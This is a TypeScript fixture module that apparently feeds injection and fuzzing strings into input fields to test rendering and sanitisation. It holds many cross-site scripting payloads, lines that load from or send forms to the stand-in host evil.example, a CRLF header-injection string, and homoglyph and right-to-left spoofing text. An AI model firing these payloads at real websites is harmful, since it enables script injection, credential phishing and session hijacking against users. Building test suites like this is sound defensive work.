/** What runs where text is taken for something else: each sets `isHurt`, loads from another host, or leaves what it stands in. */
const ACTIVE = [
  '<script>isHurt=1</script>',
  '</title><script>isHurt=1</script>',
  '</script><script>isHurt=1</script>',
  '</textarea><script>isHurt=1</script>',
  '</style><script>isHurt=1</script>',
  '<script src=//evil.example/x.js></script>',
  '<img src=x onerror=isHurt=1>',
  '"><img src=x onerror=isHurt=1>',
  "'><img src=x onerror=isHurt=1>",
  '<img src="//evil.example/seen.png">',
  '" onfocus=isHurt=1 autofocus x="',
  "' onmouseover='isHurt=1' x='",
  '` onload=`isHurt=1`',
  '<svg onload=isHurt=1>',
  '<svg><script>isHurt=1</script></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x></svg>#x">',
  '<svg><animate onbegin=isHurt=1 attributeName=x>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=isHurt=1>',
  '<iframe srcdoc="<script>parent.isHurt=1</script>">',
  '<iframe src=javascript:parent.isHurt=1>',
  '<object data=//evil.example/x></object>',
  '<embed src=//evil.example/x>',
  '<base href=//evil.example/>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=//evil.example/">',
  '<form action=//evil.example/><button autofocus>Pay</button></form>',
  '<details open ontoggle=isHurt=1>',
  '<video><source onerror=isHurt=1></video>',
  '<body onload=isHurt=1>',
  '<style>*{display:none!important}</style>',
  '<xss style="position:fixed;inset:0;background:red" onclick=isHurt=1>',
  '<noscript><p title="</noscript><img src=x onerror=isHurt=1>">',
  '<template><img src=x onerror=isHurt=1></template>',
  '<!--><img src=x onerror=isHurt=1>-->',
  '<![CDATA[<img src=x onerror=isHurt=1>]]>',
  '<a href="javascript:isHurt=1">pay here</a>',
  'javascript:isHurt=1',
  'data:text/html,<script>isHurt=1</script>',
  "{{constructor.constructor('isHurt=1')()}}",
  '\x24{isHurt=1} #{isHurt=1} <%= isHurt=1 %>',
  "';isHurt=1;//",
  '&lt;script&gt;isHurt=1&lt;/script&gt;',
  '&#60;img src=x onerror=isHurt=1&#62;',
  '%3Cscript%3EisHurt=1%3C/script%3E',
  '\\u003cscript\\u003eisHurt=1\\u003c/script\\u003e',
  '＜script＞isHurt=1＜/script＞',
]

/** What is left open, or a character of its own meaning. */
const BROKEN = ['<b', '<', '">', "'>", '&', '&amp', '\\', '--!>', '</main></body></html>', '</p></div></section>']

/** What changes how the text around it is read, or how wide it is. */
const STRANGE = [
  '\u202egnp.exe\u202d',
  '\u2066\u2067\u2068\u2069',
  'a\u200bb\u200dc\ufeffd\u00ade',
  'раураl Сustomer',
  '👨‍👩‍👧‍👦 🏴‍☠️ 🇨🇭',
  'عربي עברית हिन्दी 中文',
]

const LINES = ['two\u2028lines\u2029more', 'tab\tand\nbreak', 'break\r\nSet-Cookie: hurt=1']
const CONTROL = ['bell\u0007 escape\u001b[31m delete\u007f', 'half\ud83d', 'nul\u0000byte']
const WIDE = 'W'.repeat(220)
const TALL = `Z${'\u0335\u0301\u0323'.repeat(50)}`
const BLANK = ['   ', '']

const PACK_MAX = 230

/** All payloads, in packs that fit into one field together; those that an API may refuse are apart. */
export const PACKS: readonly (readonly string[])[] = [
  ...packed([...ACTIVE, ...BROKEN]),
  ...[STRANGE, LINES, CONTROL, [WIDE], [TALL], BLANK],
]

/** How many payloads there are. */
export const PAYLOADS = PACKS.flat().length

function packed(texts: readonly string[]): string[][] {
  const packs: string[][] = [[]]
  for (const text of texts) {
    const last = packs.at(-1) ?? []
    if (last.join(' ').length + 1 + text.length <= PACK_MAX) last.push(text)
    else packs.push([text])
  }
  return packs
}
